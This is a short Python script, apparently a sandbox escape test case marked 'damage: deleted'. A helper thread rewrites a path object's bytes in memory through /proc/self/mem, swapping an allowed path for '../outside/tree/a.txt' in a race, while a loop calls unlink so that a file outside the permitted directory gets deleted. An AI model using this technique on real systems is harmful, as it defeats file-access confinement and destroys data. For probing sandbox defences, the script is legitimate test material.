# The text of a path is changed in memory by another thread while it is looked at.
# damage: deleted
# needs: linux
import os
import threading
import time

own, victim = b"./own/.././own/a.txt", b"../outside/tree/a.txt"
own = own.replace(b"./", b"." + b"/" * (len(victim) - len(own) + 1), 1)
path = bytes(bytearray(own))
memory = os.open("/proc/self/mem", os.O_RDWR)
address = id(path) + bytes.__basicsize__ - 1
going = True
os.mkdir("own")


def turn():
    while going:
        os.pwrite(memory, victim, address)
        os.pwrite(memory, own, address)


thread = threading.Thread(target=turn)
thread.start()
end = time.monotonic() + 2
try:
    while time.monotonic() < end and os.path.exists("../outside/tree/a.txt"):
        try:
            open("own/a.txt", "w").close()
            os.unlink(path)
        except FileNotFoundError:
            pass
finally:
    going = False
